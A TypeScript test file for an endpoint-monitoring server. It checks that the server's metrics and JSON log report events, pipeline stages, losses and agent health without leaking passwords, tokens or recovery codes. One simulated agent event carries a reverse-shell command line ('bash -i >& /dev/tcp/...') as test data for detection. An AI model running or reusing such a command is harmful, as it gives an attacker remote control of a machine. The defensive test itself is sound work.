/** What a server tells the machinery around it after everything was done once: numbers for each part of the way, and no secret in the log. */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { until } from '../../../test/until.ts'
import { codeAt } from './api/one-time-code.ts'
import { createMetrics } from './metrics.ts'
import { enrolAgent, TestAgent } from './testing/test-agent.ts'
import { TestConsole } from './testing/test-console.ts'
import { startTestServer, type TestServer, temporaryDirectory } from './testing/test-server.ts'

const log = join(temporaryDirectory(), 'server.log')
/** Everything that must not be read in the log, by what it is. */
const secrets = new Map<string, string>()
const secret = (what: string, text: string) => {
  assert.ok(text.length >= 6, what)
  secrets.set(what, text)
  return text
}
let own: TestServer
let admin: TestConsole
let agent: TestAgent

before(async () => {
  own = await startTestServer({ log, logLevel: 'debug' })
  const first = own.server.firstUser ?? { name: '', password: '' }
  secret('first password', first.password)
  admin = new TestConsole(own.server.consoleUrl)
  await admin.begin(first, secret('own password', 'a-password-of-the-test'))
  secret('session', admin.cookie.split('=')[1] ?? '')
  secret('token of the session', admin.csrf)
  const stranger = new TestConsole(own.server.consoleUrl)
  await stranger.signIn('admin', secret('wrong password', 'a-guess-of-the-test'))

  const { token } = own.server.createEnrolmentToken()
  const enrolment = await enrolAgent(secret('enrolment token', token))
  secret('key of the agent', enrolment.key.split('\n')[1] ?? '')
  agent = new TestAgent(enrolment)
  await agent.connect()
  await agent.deliver(1, [agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/1')])
  agent.health({
    spool: { events: 7, bytes: 900, dropped: { 'spool full': 3 } },
    sensors: [sensor],
  })
  const id = enrolment.assetId
  const receiver = {
    kind: 'http',
    listen: '127.0.0.1:8088',
    token: secret('receiver token', 'receiver-token-of-the-test'),
  }
  await does('setCollection', { id, body: { defaultLogs: true, logs: [], receivers: [receiver] } })
  secret('uninstall token', (await does('createUninstallToken', { id })).token)
  const url = secret('URL of a webhook', `http://127.0.0.1:9/hook/${'k'.repeat(12)}`)
  const channel = await does('createNotificationChannel', {
    body: {
      name: 'x',
      target: { kind: 'webhook' },
      allowPrivate: true,
      secrets: { url, secret: secret('secret of a webhook', 'webhook-secret-of-the-test') },
    },
  })
  assert.equal((await does('testNotificationChannel', { id: channel.id })).ok, false)
  const api = new TestConsole(own.server.consoleUrl)
  api.bearer = secret('API token', (await does('createToken', { body: { title: 'x', role: 'viewer' } })).text)
  assert.equal((await api.call('listAlerts')).status, 200)
  secret('password of a user', (await does('createUser', { body: { name: 'mia', role: 'analyst' } })).password)
  const offer = await does('offerSecondFactor', { body: { password: 'a-password-of-the-test' } })
  secret('secret of one-time codes', offer.secret)
  const code = codeAt(offer.secret, Math.floor(Date.now() / 30_000))
  const { codes } = await does('confirmSecondFactor', { body: { code } })
  for (const [at, one] of codes.entries()) secret(`recovery code ${at}`, one)
  await admin.signIn('admin', 'a-password-of-the-test', codes[0])
  await fetch(
    `${own.server.consoleUrl}/api/v1/session?password=${secret('password in an address', 'typed-into-the-address')}`,
  )
})
after(async () => {
  agent?.cut()
  await own?.end()
})

const sensor = {
  sensor: 'process',
  state: 'degraded' as const,
  reason: 'The kernel refuses it.',
  eventsSeen: 10,
  eventsLost: 5,
  lostByCause: { 'ring full': 5 },
  capabilities: {},
}

// biome-ignore lint/suspicious/noExplicitAny: answers of every shape
async function does(name: Parameters<TestConsole['call']>[0], call: { id?: string; body?: unknown }): Promise<any> {
  const answer = await admin.call(name, call)
  assert.equal(answer.status, 200, `${name}: ${JSON.stringify(answer.body)}`)
  return answer.body
}

test('metrics: events in, every stage, losses by cause, how long it takes, what waits, agents', async () => {
  const read = async () => (await (await fetch(`${own.server.consoleUrl}/metrics`)).text()) as string
  const text = await until('the health of the agent', async () => {
    const now = await read()
    return /rampart_agent_spool_events 7/.test(now) && now
  })
  const above = (pattern: string) =>
    assert.match(text, new RegExp(`^${pattern} (?:[1-9]|0\\.0*[1-9])`, 'm'), `${pattern} is not there, or nothing`)
  above('rampart_events_received_total\\{type="process.started"\\}')
  for (const stage of ['decode', 'archive', 'detect', 'store'])
    above(`rampart_pipeline_stage_seconds_count\\{stage="${stage}"\\}`)
  above('rampart_agent_events_lost\\{where="spool",cause="spool full"\\}')
  above('rampart_agent_events_lost\\{where="process",cause="ring full"\\}')
  above('rampart_sensors_unwell\\{sensor="process",state="degraded"\\}')
  above('rampart_alert_delay_seconds_bucket\\{le="\\+Inf"\\}')
  above('rampart_http_request_seconds_bucket\\{le="\\+Inf",route="/api/v1/session",status="200"\\}')
  above('rampart_alerts_raised_total\\{level="Urgent"\\}')
  above('rampart_agents\\{state="online"\\}')
  above('rampart_agents_online')
  above('rampart_notification_channels_failing\\{kind="webhook"\\}')
  for (const name of ['rampart_queue_batches', 'rampart_agent_spool_events', 'rampart_write_failures_total'])
    assert.match(text, new RegExp(`^# TYPE ${name} `, 'm'))
  const reference = readFileSync(new URL('../../../docs/reference/metrics.md', import.meta.url), 'utf8')
  for (const { name } of await createMetrics().registry.getMetricsAsJSON())
    if (name.startsWith('rampart_')) {
      assert.ok(reference.includes(`\`${name}\``), name)
      assert.match(text, new RegExp(`^# HELP ${name} .+`, 'm'))
    }
  for (const [what, word] of secrets) assert.ok(!text.includes(word), `${what} stands in the metrics`)
})

test('the log is JSON, says what happened, and holds no secret', async () => {
  await own.server.stop()
  const lines = readFileSync(log, 'utf8').trim().split('\n')
  const parsed = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
  assert.ok(parsed.length > 10)
  for (const line of parsed)
    assert.ok(
      typeof line.time === 'string' && typeof line.level === 'number' && line.program === 'rampart-server',
      JSON.stringify(line),
    )
  const routes = new Set(parsed.map((line) => line.route))
  for (const route of ['/api/v1/session', '/api/v1/account/tokens', '/api/v1/notification-channels'])
    assert.ok(routes.has(route), `${route} was not logged: this test would see nothing`)
  assert.ok(
    lines.some((line) => line.includes('notify.unreachable')),
    'a message that did not get through is told',
  )
  for (const [what, word] of secrets)
    for (const line of lines) assert.ok(!line.includes(word), `${what} stands in the log: ${line}`)
})
